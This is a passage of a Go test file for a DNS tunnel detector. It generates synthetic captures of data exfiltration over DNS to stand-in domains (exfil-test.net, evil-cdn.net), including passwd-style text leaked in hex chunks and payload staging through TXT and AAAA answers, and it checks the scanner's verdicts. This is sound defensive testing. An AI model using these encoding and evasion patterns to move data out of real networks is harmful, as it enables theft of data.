package scan

import (
	"bufio"
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"math/rand/v2"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/dnsieve/dnsieve/internal/config"
	"github.com/dnsieve/dnsieve/internal/engine"
	"github.com/dnsieve/dnsieve/internal/testcap"
)

// scanInTimeOrder writes frames, sorted by time (stable), to a pcap named
// name in dir and scans dir with the default configuration.
func scanInTimeOrder(t *testing.T, dir, name string, frames []testcap.Frame) (Summary, string) {
	t.Helper()
	slices.SortStableFunc(frames, func(a, b testcap.Frame) int { return a.Time.Compare(b.Time) })
	testcap.WriteFile(t, filepath.Join(dir, name), frames, "pcap")
	return runScan(t, config.Default(), dir)
}

// queryAnswer is a query from c to srv at time at and its response a
// millisecond later, over Ethernet.
func queryAnswer(at time.Time, c, srv netip.AddrPort, id uint16, name string, qtype uint16, rcode int, answers ...testcap.Answer) []testcap.Frame {
	return []testcap.Frame{
		{Time: at, Link: testcap.Ethernet, Data: testcap.UDP(testcap.Ethernet, c, srv, testcap.Query(id, name, qtype))},
		{Time: at.Add(time.Millisecond), Link: testcap.Ethernet, Data: testcap.UDP(testcap.Ethernet, srv, c, testcap.Response(id, name, qtype, rcode, answers...))},
	}
}

// tunnelFrames is an exfiltration over TXT queries to t1.exfil-test.net:
// 300 names of base32 data, each answered with a TXT record, mixed with
// ordinary lookups; the first 20 tunnel names are short and clean, so only
// the engine can flag them.
func tunnelFrames(t *testing.T) []testcap.Frame {
	t.Helper()
	rng := rand.New(rand.NewPCG(11, 12))
	enc := base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(base32.NoPadding)
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	add := func(data []byte) {
		frames = append(frames, testcap.Frame{Time: base.Add(time.Duration(len(frames)) * 100 * time.Millisecond), Link: testcap.Ethernet, Data: data})
	}
	for i := 0; i < 300; i++ {
		n := 30
		if i < 20 {
			n = 6 // short names: no check fires on them
		}
		data := make([]byte, n)
		for j := range data {
			data[j] = byte(rng.IntN(256))
		}
		s := enc.EncodeToString(data)
		var labels []string
		for len(s) > 50 {
			labels = append(labels, s[:50])
			s = s[50:]
		}
		labels = append(labels, s)
		name := strings.Join(labels, ".") + ".t1.exfil-test.net"
		id := uint16(i)
		add(testcap.UDP(testcap.Ethernet, client, server, testcap.Query(id, name, typeTXT)))
		add(testcap.UDP(testcap.Ethernet, server, client, testcap.Response(id, name, typeTXT, 0, testcap.AnswerTXT(strings.Repeat("x", 100)))))
		if i%3 == 0 {
			host := fmt.Sprintf("www.site%d.example.org", i%40)
			add(testcap.UDP(testcap.Ethernet, client, server, testcap.Query(id, host, typeA)))
		}
		if i%10 == 0 {
			// Ordinary names of the tunnel's own registered domain.
			add(testcap.UDP(testcap.Ethernet, client, server, testcap.Query(id, "www.exfil-test.net", typeA)))
		}
	}
	return frames
}

func TestEngineFindsTunnelAndListsEveryPacket(t *testing.T) {
	dir := t.TempDir()
	frames := tunnelFrames(t)
	testcap.WriteFile(t, filepath.Join(dir, "tunnel.pcap"), frames, "pcap")
	sum, out := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 {
		t.Fatalf("%d findings: %+v", len(sum.Findings), sum.Findings)
	}
	f := sum.Findings[0]
	if f.Domain != "t1.exfil-test.net" || f.RegisteredDomain != "exfil-test.net" || f.Verdict != "tunnel" || f.Severity != engine.SeverityHigh {
		t.Fatalf("finding %s/%s %s %s score %.1f: %q", f.Domain, f.RegisteredDomain, f.Verdict, f.SeverityText, f.Score, f.Evidence)
	}
	if f.Queries != 330 || f.Responses != 300 || f.UniqueNames != 301 || len(f.Clients) != 1 || f.Clients[0].Addr != "192.0.2.10" ||
		len(f.Pcaps) != 1 || f.Pcaps[0] != "tunnel.pcap" {
		t.Fatalf("finding counts %+v", f)
	}
	// Every packet of the tunnel zone is in out.csv, the first ones (before
	// any verdict, and clean to the checks) included; the ordinary lookups
	// are not, not even those of the tunnel's registered domain.
	csv := readFile(t, filepath.Join(out, CSVName))
	rows := strings.Count(csv, "\r\n") - 1
	if rows != 600 {
		t.Fatalf("%d rows, want 600", rows)
	}
	if !strings.Contains(csv, "tunnel.pcap|1|high|tunnel domain t1.exfil-test.net (unknown)\r\n") {
		t.Fatalf("first packet row missing:\n%.400s", csv)
	}
	// findings.jsonl and domains.csv carry the same finding.
	jf, err := os.Open(filepath.Join(out, FindingsName))
	if err != nil {
		t.Fatal(err)
	}
	defer jf.Close()
	sc := bufio.NewScanner(jf)
	sc.Buffer(nil, 1<<20)
	var lines []map[string]any
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatal(err)
		}
		lines = append(lines, m)
	}
	if len(lines) != 1 || lines[0]["domain"] != "t1.exfil-test.net" || lines[0]["severity"] != "high" || lines[0]["queries"] != 330.0 {
		t.Fatalf("findings.jsonl %v", lines)
	}
	for _, k := range []string{"domain", "registered_domain", "verdict", "severity", "score", "tool", "clients", "first_seen", "last_seen",
		"queries", "unique_names", "bytes_up", "bytes_down", "pcaps", "evidence"} {
		if _, ok := lines[0][k]; !ok {
			t.Errorf("findings.jsonl lacks %q", k)
		}
	}
	if _, err := time.Parse(time.RFC3339, lines[0]["first_seen"].(string)); err != nil {
		t.Errorf("first_seen not RFC 3339: %v", err)
	}
	domains := readFile(t, filepath.Join(out, DomainsName))
	if !strings.HasPrefix(domains, "domain|registered_domain|verdict|severity|") || !strings.Contains(domains, "\r\nt1.exfil-test.net|exfil-test.net|tunnel|high|") {
		t.Fatalf("domains.csv:\n%s", domains)
	}
}

// TestTunnelZoneInABusyDomain: the tunnel of tunnelFrames beside 40
// lookups of 40 hosts of its registered domain by 4 other clients, three
// of them named like data and looked up first. The finding is the
// tunnel's own zone and out.csv lists its 600 packets only (the zone was
// once the longest common suffix of the data-like names, which the three
// hosts made the registered domain: every lookup was listed). With a
// hundred lookups the tunnel is no longer found (README, "What it
// misses").
func TestTunnelZoneInABusyDomain(t *testing.T) {
	dir := t.TempDir()
	tunnel := tunnelFrames(t)
	base := tunnel[0].Time.Add(-time.Second)
	var frames []testcap.Frame
	for i := range 40 {
		host := fmt.Sprintf("host%d.exfil-test.net", i%40)
		if i%40 < 3 {
			host = fmt.Sprintf("node-%016x.exfil-test.net", uint64(i%40+1)*0x9e3779b97f4a7c15)
		}
		c := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + i%4)}), 40000)
		at := base.Add(time.Duration(i) * 10 * time.Millisecond)
		if i >= 3 {
			at = tunnel[0].Time.Add(time.Duration(i) * 10 * time.Millisecond)
		}
		frames = append(frames, queryAnswer(at, c, server, uint16(i), host, typeA, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 40)})))...)
	}
	frames = append(frames, tunnel...)
	sum, out := scanInTimeOrder(t, dir, "busy.pcap", frames)
	if len(sum.Findings) != 1 || sum.Findings[0].Domain != "t1.exfil-test.net" {
		t.Fatalf("findings %+v", sum.Findings)
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "\r\n") - 1; rows != 600 || strings.Contains(csv, "host") {
		t.Fatalf("%d rows, want 600", rows)
	}
}

// TestTunnelZoneJudgedOnItsOwn: a channel in a zone of a registered domain
// whose other hosts 200 clients look up 2,000 times. Judged as a whole,
// the domain was a medium finding at best (300 of those lookups made it
// low); its zone, judged on its own, is a high one, and out.csv lists its
// 600 packets and none of the other hosts'.
func TestTunnelZoneJudgedOnItsOwn(t *testing.T) {
	dir := t.TempDir()
	tunnel := tunnelFrames(t)
	first, last := tunnel[0].Time, tunnel[len(tunnel)-1].Time
	rng := rand.New(rand.NewPCG(5, 6))
	frames := tunnel
	const lookups = 2000
	for i := range lookups {
		host := fmt.Sprintf("host%d.exfil-test.net", rng.IntN(300))
		c := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + rng.IntN(200))}), 40000)
		at := first.Add(time.Duration(i) * last.Sub(first) / lookups)
		frames = append(frames, queryAnswer(at, c, server, uint16(i), host, typeA, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 40)})))...)
	}
	sum, out := scanInTimeOrder(t, dir, "busy.pcap", frames)
	if len(sum.Findings) != 1 {
		t.Fatalf("findings %+v", sum.Findings)
	}
	f := sum.Findings[0]
	if f.Domain != "t1.exfil-test.net" || f.RegisteredDomain != "exfil-test.net" || f.Severity != engine.SeverityHigh ||
		len(f.Evidence) < 2 || !strings.HasPrefix(f.Evidence[1], "judged on its own: the zone t1.exfil-test.net") {
		t.Fatalf("finding %s (%s) %v %v", f.Domain, f.RegisteredDomain, f.Severity, f.Evidence)
	}
	// The unit starts once 16 data-like names decided the zone: it holds
	// the rest of the channel's 300 queries and none of the other hosts'.
	if f.Queries < 250 || f.Queries > 285 || f.UniqueNames != f.Queries || len(f.Clients) != 1 {
		t.Fatalf("unit counts: %d queries, %d names, %d clients", f.Queries, f.UniqueNames, len(f.Clients))
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "|high|tunnel domain t1.exfil-test.net (unknown)"); rows != 600 || strings.Contains(csv, "host") {
		t.Fatalf("%d high rows, want 600", rows)
	}
}

// TestSharedDomainListsOnlyTheChannel: a tool sends its data straight
// under a registered domain that 50 other clients use for its ordinary
// hosts (DET's default key is google.com). The finding is the registered
// domain, marked shared, and out.csv lists the channel's 1,200 packets and
// none of the ordinary lookups (it listed all 2,000 of the domain's).
func TestSharedDomainListsOnlyTheChannel(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewPCG(9, 9))
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	for i := range 600 {
		b := make([]byte, 60)
		for j := range b {
			b[j] = byte(rng.Uint32())
		}
		h := hex.EncodeToString(b)
		name := h[:63] + "." + h[63:] + ".shared-portal.com"
		at := base.Add(time.Duration(i) * time.Second)
		frames = append(frames, queryAnswer(at, client, server, uint16(i), name, typeA, 3)...)
	}
	hosts := []string{"www", "mail", "api", "login", "static", "cdn", "news", "shop"}
	for i := range 400 {
		host := hosts[rng.IntN(len(hosts))] + ".shared-portal.com"
		c := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + rng.IntN(50))}), 40000)
		at := base.Add(time.Duration(i) * 1500 * time.Millisecond)
		frames = append(frames, queryAnswer(at, c, server, uint16(2000+i), host, typeA, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 8)})))...)
	}
	sum, out := scanInTimeOrder(t, dir, "shared.pcap", frames)
	if len(sum.Findings) != 1 {
		t.Fatalf("findings %+v", sum.Findings)
	}
	f := sum.Findings[0]
	if f.Domain != "shared-portal.com" || !f.SharedDomain || f.Severity < engine.SeverityMedium ||
		!slices.ContainsFunc(f.Evidence, func(e string) bool { return strings.HasPrefix(e, "a shared domain: 50 client(s)") }) {
		t.Fatalf("finding %s shared %v %v %v", f.Domain, f.SharedDomain, f.Severity, f.Evidence)
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "|tunnel domain shared-portal.com"); rows != 1200 {
		t.Fatalf("%d tunnel rows, want 1200", rows)
	}
	if n := strings.Count(csv, "\n"); n != 1201 {
		t.Fatalf("%d lines, want the header and 1200 rows", n)
	}
}

// TestSharedDomainShortChunks: a channel whose names trip neither the
// long-label nor the entropy check (a text file in 32-hex chunks) under a
// shared domain is still listed, whatever the finding's severity (here
// low: twelve clients' lookups dilute it): a hex run shows the channel.
// With three bystanders the domain is not shared, and every packet of it
// is listed.
func TestSharedDomainShortChunks(t *testing.T) {
	var text []byte
	for i := range 200 {
		text = fmt.Appendf(text, "user%d:x:%d:%d:User %d:/home/user%d:/bin/sh\n", i, 1000+i, 1000+i, i, i)
	}
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	for _, c := range []struct {
		bystanders int
		shared     bool
		rows       int
	}{{12, true, 400}, {3, false, 480}} {
		dir := t.TempDir()
		var frames []testcap.Frame
		for i := range 200 {
			name := hex.EncodeToString(text[i*16:(i+1)*16]) + ".shared-portal.com"
			at := base.Add(time.Duration(i) * 500 * time.Millisecond)
			frames = append(frames, queryAnswer(at, client, server, uint16(i), name, typeA, 3)...)
		}
		hosts := []string{"www", "mail", "api", "login"}
		for i := range 40 {
			host := hosts[i%len(hosts)] + ".shared-portal.com"
			cl := netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + i%c.bystanders)}), 40000)
			at := base.Add(time.Duration(i) * 2 * time.Second)
			frames = append(frames, queryAnswer(at, cl, server, uint16(1000+i), host, typeA, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{203, 0, 113, 7})))...)
		}
		sum, out := scanInTimeOrder(t, dir, "shared.pcap", frames)
		if len(sum.Findings) != 1 || sum.Findings[0].Domain != "shared-portal.com" || sum.Findings[0].SharedDomain != c.shared {
			t.Fatalf("%d bystanders: findings %+v", c.bystanders, sum.Findings)
		}
		// Every row is the channel's (its 400 packets) or, when the domain
		// is not shared, the domain's (all 480).
		csv := readFile(t, filepath.Join(out, CSVName))
		if rows := strings.Count(csv, "\n") - 1; rows != c.rows {
			t.Fatalf("%d bystanders: %d rows, want %d (%s %s)", c.bystanders, rows, c.rows, sum.Findings[0].Verdict, sum.Findings[0].SeverityText)
		}
	}
}

// TestResolverPoolIsNotShared: a tunnel directly under its registered
// domain, seen at the authoritative side from 400 resolver addresses that
// all carry it (8 of them asked the apex first, while the domain was
// quiet), is no shared domain: out.csv keeps its polls, which no data
// check flags. (Counting every untracked client as a bystander, those
// beyond the 256 tracked one by one included, once made it shared and
// dropped them.)
func TestResolverPoolIsNotShared(t *testing.T) {
	dir := t.TempDir()
	rng := rand.New(rand.NewPCG(3, 4))
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	resolver := func(i int) netip.AddrPort {
		i %= 400
		return netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 9, byte(i / 200), byte(i % 200)}), 53000)
	}
	auth := netip.MustParseAddrPort("192.0.2.99:53")
	var frames []testcap.Frame
	add := func(i int, at time.Time, c netip.AddrPort, name string, qtype uint16) {
		frames = append(frames, queryAnswer(at, c, auth, uint16(i), name, qtype, 0, testcap.AnswerAddr(netip.AddrFrom4([4]byte{192, 0, 2, 99})))...)
	}
	for i := range 8 {
		add(i, base.Add(time.Duration(i)*time.Second), resolver(i), "tun-direct.com", typeA)
	}
	const b32 = "abcdefghijklmnopqrstuvwxyz234567"
	for i := range 1200 {
		b := make([]byte, 40)
		for j := range b {
			b[j] = b32[rng.IntN(32)]
		}
		add(100+i, base.Add(10*time.Second+time.Duration(i)*time.Second), resolver(i), string(b)+".tun-direct.com", typeA)
		if i%2 == 0 {
			add(5000+i, base.Add(10*time.Second+time.Duration(i)*time.Second+500*time.Millisecond), resolver(i+7),
				fmt.Sprintf("p%05d.tun-direct.com", i), typeA)
		}
	}
	testcap.WriteFile(t, filepath.Join(dir, "pool.pcap"), frames, "pcap")
	sum, out := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 || sum.Findings[0].Domain != "tun-direct.com" || sum.Findings[0].SharedDomain {
		t.Fatalf("findings %+v", sum.Findings)
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "\n") - 1; rows != len(frames) {
		t.Fatalf("%d rows, want all %d packets (%s %s)", rows, len(frames), sum.Findings[0].Verdict, sum.Findings[0].SeverityText)
	}
}

// TestTextInHashSizedChunks: a text file sent 16 bytes a name as 32 hex
// characters (`xxd -p -c 16`), each name denied. The chunks have the size
// of an MD5 digest, a shape that counts against a verdict (reputation
// lookups); text's bytes are not a digest's, and the channel is found
// (it was not).
func TestTextInHashSizedChunks(t *testing.T) {
	dir := t.TempDir()
	var text []byte
	for i := range 200 {
		text = fmt.Appendf(text, "user%d:x:%d:%d:User %d:/home/user%d:/bin/sh\n", i, 1000+i, 1000+i, i, i)
	}
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	for i := 0; (i+1)*16 <= len(text) && i < 200; i++ {
		name := hex.EncodeToString(text[i*16:(i+1)*16]) + ".exfil-hex.net"
		at := base.Add(time.Duration(i) * 500 * time.Millisecond)
		frames = append(frames, queryAnswer(at, client, server, uint16(i), name, typeA, 3)...)
	}
	testcap.WriteFile(t, filepath.Join(dir, "hex.pcap"), frames, "pcap")
	sum, out := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 || sum.Findings[0].Domain != "exfil-hex.net" || sum.Findings[0].Severity != engine.SeverityHigh ||
		sum.Findings[0].Features.DigestNames != 0 {
		t.Fatalf("findings %+v", sum.Findings)
	}
	if rows := strings.Count(readFile(t, filepath.Join(out, CSVName)), "|high|"); rows != 400 {
		t.Fatalf("%d high rows, want 400", rows)
	}
}

// TestEngineDemotesLoneCheckHits: with the engine on, a name that only the
// per-message checks dislike is reported at low.
func TestEngineDemotesLoneCheckHits(t *testing.T) {
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "mixed.pcapng"), mixedFrames(t), "pcapng")
	sum, out := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 0 {
		t.Fatalf("findings on ordinary traffic: %+v", sum.Findings)
	}
	golden(t, "mixed.engine.out.csv", readFile(t, filepath.Join(out, CSVName)))
}

func TestStatsCountFindings(t *testing.T) {
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "tunnel.pcap"), tunnelFrames(t), "pcap")
	_, out := runScan(t, config.Default(), dir)
	st := statsOf(t, out)
	fnd := st["findings"].(map[string]any)
	if fnd["high"] != 1.0 || fnd["medium"] != 0.0 {
		t.Fatalf("findings %v", fnd)
	}
	if eng := st["engine"].(map[string]any); eng["domains"] != 2.0 || eng["evictions"] != 0.0 {
		t.Fatalf("engine %v", eng)
	}
	if f := st["tunnel.pcap"].(map[string]any); num(f, "malicious_packets_count") != 600 {
		t.Fatalf("file %v", f)
	}
}

// TestFragmentedTunnelSameAsWhole: a tunnel whose large TXT answers arrive
// as IP fragments is found the same, every DNS message reported once, at
// the frame that completes it.
func TestFragmentedTunnelSameAsWhole(t *testing.T) {
	build := func(fragment bool) []testcap.Frame {
		rng := rand.New(rand.NewPCG(31, 32))
		enc := base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(base32.NoPadding)
		base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
		var frames []testcap.Frame
		add := func(data []byte) {
			frames = append(frames, testcap.Frame{Time: base.Add(time.Duration(len(frames)) * 50 * time.Millisecond), Link: testcap.Ethernet, Data: data})
		}
		for i := 0; i < 150; i++ {
			data := make([]byte, 30)
			for j := range data {
				data[j] = byte(rng.IntN(256))
			}
			name := enc.EncodeToString(data) + ".t.frag-tunnel.org"
			add(testcap.UDP(testcap.Ethernet, client, server, testcap.Query(uint16(i), name, typeTXT)))
			resp := testcap.Response(uint16(i), name, typeTXT, 0, testcap.AnswerTXT(strings.Repeat("a", 200), strings.Repeat("b", 200), strings.Repeat("c", 200)))
			if !fragment {
				add(testcap.UDP(testcap.Ethernet, server, client, resp))
				continue
			}
			frags := testcap.IPv4Fragments(testcap.Ethernet, server, client, resp, 256, testcap.WithIPID(uint16(1000+i)))
			// Deliver the fragments out of order.
			for _, k := range []int{1, 0, 2} {
				if k < len(frags) {
					add(frags[k])
				}
			}
		}
		return frames
	}
	results := map[bool]Summary{}
	rows := map[bool]int{}
	var fragCSV string
	for _, fragment := range []bool{false, true} {
		dir := t.TempDir()
		testcap.WriteFile(t, filepath.Join(dir, "t.pcap"), build(fragment), "pcap")
		sum, out := runScan(t, config.Default(), dir)
		results[fragment] = sum
		csv := readFile(t, filepath.Join(out, CSVName))
		rows[fragment] = strings.Count(csv, "\r\n") - 1
		if fragment {
			fragCSV = csv
		}
	}
	if rows[true] != rows[false] || rows[false] != 300 {
		t.Fatalf("rows: whole %d, fragmented %d (want 300 each)", rows[false], rows[true])
	}
	for _, fragment := range []bool{false, true} {
		s := results[fragment]
		if len(s.Findings) != 1 || s.Findings[0].Severity != engine.SeverityHigh || s.Findings[0].Responses != 150 {
			t.Fatalf("fragmented=%v: findings %+v", fragment, s.Findings)
		}
	}
	// The first response's fragments are frames 2, 3, 4 (delivered 1, 0,
	// 2); the last of them, frame 4, completes it.
	if !strings.Contains(fragCSV, "t.pcap|4|high|") || strings.Contains(fragCSV, "t.pcap|2|") || strings.Contains(fragCSV, "t.pcap|3|") {
		t.Fatalf("fragmented rows:\n%.300s", fragCSV)
	}
}

// TestLowAndSlowCapture: 4 KB leaked over 24 hours (one A query every 13
// minutes) in a capture with ordinary lookups all day is found.
func TestLowAndSlowCapture(t *testing.T) {
	rng := rand.New(rand.NewPCG(41, 42))
	enc := base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(base32.NoPadding)
	secret := make([]byte, 4096)
	for i := range secret {
		secret[i] = byte(rng.IntN(256))
	}
	base := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	var frames []testcap.Frame
	add := func(at time.Time, data []byte) {
		frames = append(frames, testcap.Frame{Time: at, Link: testcap.Ethernet, Data: data})
	}
	n := 0
	for off := 0; off < len(secret); off += 36 {
		at := base.Add(time.Duration(n) * 13 * time.Minute)
		name := enc.EncodeToString(secret[off:min(off+36, len(secret))]) + ".m.metrics-cdn.net"
		add(at, testcap.UDP(testcap.Ethernet, client, server, testcap.Query(uint16(n), name, typeA)))
		add(at.Add(30*time.Millisecond), testcap.UDP(testcap.Ethernet, server, client, testcap.Response(uint16(n), name, typeA, 3)))
		// Ordinary lookups between the leaks.
		for j := 0; j < 20; j++ {
			host := fmt.Sprintf("www.site%d.example.org", rng.IntN(300))
			add(at.Add(time.Duration(j+1)*30*time.Second), testcap.UDP(testcap.Ethernet, client, server, testcap.Query(uint16(j), host, typeA)))
		}
		n++
	}
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "slow.pcap"), frames, "pcap")
	sum, _ := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 {
		t.Fatalf("findings: %+v", sum.Findings)
	}
	f := sum.Findings[0]
	if f.Domain != "m.metrics-cdn.net" || f.Verdict != "tunnel" || f.Severity < engine.SeverityMedium || f.LastSeen.Sub(f.FirstSeen) < 24*time.Hour {
		t.Fatalf("finding %s %s %s over %v: %q", f.Domain, f.Verdict, f.SeverityText, f.LastSeen.Sub(f.FirstSeen), f.Evidence)
	}
}

// TestEvictionWarningNamesTheCap: when the engine's cap is reached, the
// log says so with the cap in force (it read 0 when the configuration
// left the cap to the engine's default).
func TestEvictionWarningNamesTheCap(t *testing.T) {
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	for i := range 40000 {
		name := fmt.Sprintf("www.example-%d.com", i)
		frames = append(frames, testcap.Frame{Time: base.Add(time.Duration(i) * time.Millisecond), Link: testcap.Ethernet,
			Data: testcap.UDP(testcap.Ethernet, client, server, testcap.Query(uint16(i), name, typeA))})
	}
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "many.pcap"), frames, "pcap")
	cfg := config.Default()
	cfg.Engine.MaxMemory = 1 << 20
	_, out := runScan(t, cfg, dir)
	log := readFile(t, filepath.Join(out, "out.log"))
	if !strings.Contains(log, `msg="engine memory cap reached: least recently seen domains were evicted"`) || !strings.Contains(log, " max_memory_mb=1\n") {
		t.Errorf("log %q", log)
	}
}

// downstreamFrames is a payload pulled down through TXT answers by names
// that look ordinary (p0.stage.evil-cdn.net, p1..., 240 bytes of base64
// each), beside the TXT lookups of a mail server and a web host: SPF, a
// 2048-bit DKIM key split over two strings, DMARC, verification tokens,
// ACME challenge tokens and a rotating ESNI key.
func downstreamFrames(t *testing.T, chunks int) []testcap.Frame {
	t.Helper()
	rng := rand.New(rand.NewPCG(21, 22))
	const b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	blob := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = b64[rng.IntN(64)]
		}
		return string(b)
	}
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	id := uint16(0)
	exchange := func(c netip.AddrPort, name string, answers ...testcap.Answer) {
		id++
		at := base.Add(time.Duration(len(frames)) * 50 * time.Millisecond)
		frames = append(frames, queryAnswer(at, c, server, id, name, typeTXT, 0, answers...)...)
	}
	dkim := "v=DKIM1; k=rsa; p=MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA" + blob(348) + "IDAQAB"
	esni := blob(96)
	acme := []string{blob(43), blob(43), blob(43)}
	gsv, zoom, bare := blob(43), blob(22), blob(44)
	uuid, hexToken := "3f2c9a1e-7b4d-4e8a-9c21-5d6f0a1b2c3d", "8f2a1c9d3e7b6a5f4c2d1e0f9a8b7c6d5e4f3a2b"
	for i := 0; i < chunks; i++ {
		exchange(client, fmt.Sprintf("p%d.stage.evil-cdn.net", i), testcap.AnswerTXT(blob(240)))
		mail := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, 3, byte(1 + i%3)}), 2525)
		web := netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, 1, 4, byte(1 + i%20)}), 5353)
		switch i % 6 {
		case 0:
			// The apex's record set, in the order a round-robin
			// resolver gives: untagged tokens among tagged ones.
			apex := []testcap.Answer{testcap.AnswerTXT("v=spf1 include:spf.protection.outlook.com -all"),
				testcap.AnswerTXT("google-site-verification=" + gsv), testcap.AnswerTXT("MS=ms47291538"),
				testcap.AnswerTXT("ZOOM_verify_" + zoom), testcap.AnswerTXT(uuid), testcap.AnswerTXT(bare), testcap.AnswerTXT(hexToken)}
			rng.Shuffle(len(apex), func(a, b int) { apex[a], apex[b] = apex[b], apex[a] })
			exchange(mail, "contoso.com", apex...)
		case 1:
			exchange(mail, fmt.Sprintf("selector%d._domainkey.contoso.com", 1+i%2), testcap.AnswerTXT(dkim[:250], dkim[250:]))
		case 2:
			exchange(mail, "_dmarc.contoso.com", testcap.AnswerTXT("v=DMARC1; p=quarantine; rua=mailto:dmarc@contoso.com"))
		case 3:
			if i%60 == 3 {
				esni = blob(96)
			}
			exchange(web, "_esni.www.fabrikam.net", testcap.AnswerTXT(esni))
		case 4:
			// A new challenge token for every validation: answers under
			// an underscore label are service metadata.
			acme[i%3] = blob(43)
			exchange(web, fmt.Sprintf("_acme-challenge.host%d.fabrikam.net", i%3), testcap.AnswerTXT(acme[i%3]))
		default:
			exchange(web, fmt.Sprintf("%d.%d.0.192.origin.asn.cymru.com", i%250, i%7),
				testcap.AnswerTXT(fmt.Sprintf("64496 | 192.0.%d.0/24 | US | arin | 2009-05-12", i%7)))
		}
	}
	return frames
}

// TestDownstreamChannelFound: a channel whose data is only in its answers
// is found from them, named by the zone of its names, with every packet in
// out.csv; the ordinary TXT lookups around it are not.
func TestDownstreamChannelFound(t *testing.T) {
	dir := t.TempDir()
	testcap.WriteFile(t, filepath.Join(dir, "down.pcap"), downstreamFrames(t, 400), "pcap")
	sum, out := runScan(t, config.Default(), dir)
	if len(sum.Findings) != 1 {
		t.Fatalf("%d findings: %+v", len(sum.Findings), sum.Findings)
	}
	f := sum.Findings[0]
	if f.Domain != "stage.evil-cdn.net" || f.Verdict != "tunnel" || f.Severity != engine.SeverityHigh ||
		f.Features.DistinctAnswers != 400 || f.Features.DistinctAnswerBytes != 96000 || f.Features.DataAnswers != 400 {
		t.Fatalf("finding %s %s %s: %+v\n%q", f.Domain, f.Verdict, f.SeverityText, f.Features, f.Evidence)
	}
	want := "raised to high: its answers carried 93.8 KiB of distinct encoded-looking data in 400 distinct records (93.8 KiB on the busiest day): a downstream channel's volume"
	if !slices.Contains(f.Evidence, want) {
		t.Fatalf("evidence %q lacks %q", f.Evidence, want)
	}
	csv := readFile(t, filepath.Join(out, CSVName))
	if rows := strings.Count(csv, "\r\n") - 1; rows != 800 || strings.Contains(csv, "contoso") || strings.Contains(csv, "fabrikam") {
		t.Fatalf("%d rows:\n%.600s", rows, csv)
	}

	// A smaller pull still reaches the floor (4 KB in a day); a few
	// chunks do not.
	for _, c := range []struct {
		chunks int
		sev    engine.Severity
	}{{40, engine.SeverityMedium}, {12, engine.SeverityNone}} {
		dir := t.TempDir()
		testcap.WriteFile(t, filepath.Join(dir, "down.pcap"), downstreamFrames(t, c.chunks), "pcap")
		sum, _ := runScan(t, config.Default(), dir)
		got := engine.SeverityNone
		for _, f := range sum.Findings {
			if f.RegisteredDomain != "evil-cdn.net" {
				t.Fatalf("%d chunks: finding %s %s", c.chunks, f.Domain, f.SeverityText)
			}
			got = f.Severity
		}
		if got != c.sev {
			t.Errorf("%d chunks: %s, want %s", c.chunks, got, c.sev)
		}
	}
}

// TestStagerAAAAFound: a payload served 16 bytes per AAAA answer to names
// cdn0, cdn1, ... (DNSStager's IPv6 mode) is found from the addresses no
// host can have; ordinary AAAA lookups beside it are not.
func TestStagerAAAAFound(t *testing.T) {
	rng := rand.New(rand.NewPCG(31, 32))
	base := time.Date(2026, 2, 3, 4, 5, 6, 0, time.UTC)
	var frames []testcap.Frame
	add := func(id uint16, c netip.AddrPort, name string, addr netip.Addr) {
		at := base.Add(time.Duration(len(frames)) * 20 * time.Millisecond)
		frames = append(frames,
